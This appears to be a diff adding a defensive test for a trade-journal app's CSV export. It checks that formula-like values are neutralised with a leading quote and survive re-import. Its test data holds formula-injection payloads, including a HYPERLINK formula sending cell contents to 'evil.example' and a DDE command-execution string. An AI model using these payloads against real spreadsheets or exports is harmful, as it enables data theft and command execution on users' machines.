@@ -225,3 +225,86 @@ describe('GET /api/trades/export.csv', () => {
     expect(derived(rebuilt)).toEqual(derived(original));
   });
 });
+
+describe('GET /api/trades/export.csv, with text a spreadsheet would run', () => {
+  const PAYLOADS = {
+    account: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    brokerExecId: '@SUM(A1:A9)',
+    strategy: '=1+2',
+    tag: "+cmd|'/C calc'!A0",
+    notes: '-2+3 and a second line\nthat stays',
+  };
+
+  async function signInAs(email: string): Promise<TestClient> {
+    await createUser(t.database.db, { email, password: PASSWORD, isVerified: true, now: new Date() });
+    const client = new TestClient(t.url(''));
+    await client.login(email, PASSWORD);
+    return client;
+  }
+
+  /** The export's records by column name. */
+  async function exportOf(client: TestClient): Promise<CsvRow[]> {
+    const [, ...records] = parseCsv(await (await client.get('/api/trades/export.csv')).text());
+    // Every column is filled in from the record, so the object has every key of CsvRow.
+    return records.map((r) => Object.fromEntries(EDGEBOOK_CSV_COLUMNS.map((col, i) => [col, r[i] ?? ''])) as CsvRow);
+  }
+
+  it('writes names, ids, strategies, tags and notes with a leading quote, numbers as numbers, and imports them back as they were', async () => {
+    const author = await signInAs('formulas@example.com');
+    const own = await author.json<AccountJson>(author.post('/api/accounts', { name: PAYLOADS.account }));
+    const added = await author.post('/api/executions', {
+      accountId: own.id,
+      executions: [
+        { executedAt: at(0), symbol: 'AAPL', side: 'buy', quantity: '10', price: '101.25', brokerExecId: '=1+2' },
+        { executedAt: at(5), symbol: 'AAPL', side: 'sell', quantity: '10', price: '100', brokerExecId: '@SUM(A1:A9)' },
+      ],
+    });
+    expect(added.status).toBe(200);
+    const [trade] = (await author.json<TradeListJson>(author.get('/api/trades'))).trades;
+    const strategy = await author.json<{ id: string }>(author.post('/api/strategies', { name: PAYLOADS.strategy }));
+    const tag = await author.json<{ id: string }>(author.post('/api/tags', { name: PAYLOADS.tag }));
+    const patched = await author.request('PATCH', `/api/trades/${trade!.id}`, {
+      strategyId: strategy.id,
+      tags: [tag.id],
+      notes: PAYLOADS.notes,
+      stopPrice: '99.5',
+    });
+    expect(patched.status).toBe(200);
+    expect(trade!.netPnl).toBe('-12.5');
+
+    const [opener, closer] = await exportOf(author);
+    expect(opener).toMatchObject({
+      account: `'${PAYLOADS.account}`,
+      broker_exec_id: "'=1+2",
+      strategy: "'=1+2",
+      tags: JSON.stringify([PAYLOADS.tag]),
+      notes: `'${PAYLOADS.notes}`,
+      quantity: '10',
+      price: '101.25',
+      stop_price: '99.5',
+    });
+    expect(closer).toMatchObject({ broker_exec_id: "'@SUM(A1:A9)", price: '100', notes: '' });
+    const cells = [opener!, closer!].flatMap((row) => Object.values(row));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    const reader = await signInAs('formulas-reader@example.com');
+    const into = await reader.json<AccountJson>(reader.post('/api/accounts', { name: 'Copy' }));
+    const form = new FormData();
+    form.append('accountId', into.id);
+    form.append('file', new Blob([await (await author.get('/api/trades/export.csv')).text()]), 'export.csv');
+    const upload = await fetch(t.url('/api/imports'), {
+      method: 'POST',
+      headers: { origin: 'http://localhost:3000', cookie: reader.cookie ?? '' },
+      body: form,
+    });
+    expect(upload.status).toBe(201);
+    const { id } = (await upload.json()) as { id: string };
+    expect((await reader.post(`/api/imports/${id}/commit`, { accountId: into.id })).status).toBe(200);
+    const [copiedOpener, copiedCloser] = await exportOf(reader);
+    const journal = (row: CsvRow | undefined) => [row?.broker_exec_id, row?.strategy, row?.tags, row?.notes];
+    expect(journal(copiedOpener)).toEqual(journal(opener));
+    expect(journal(copiedCloser)).toEqual(journal(closer));
+    const [copied] = (await reader.json<TradeListJson>(reader.get('/api/trades'))).trades;
+    expect(copied!.netPnl).toBe('-12.5');
+  });
+});
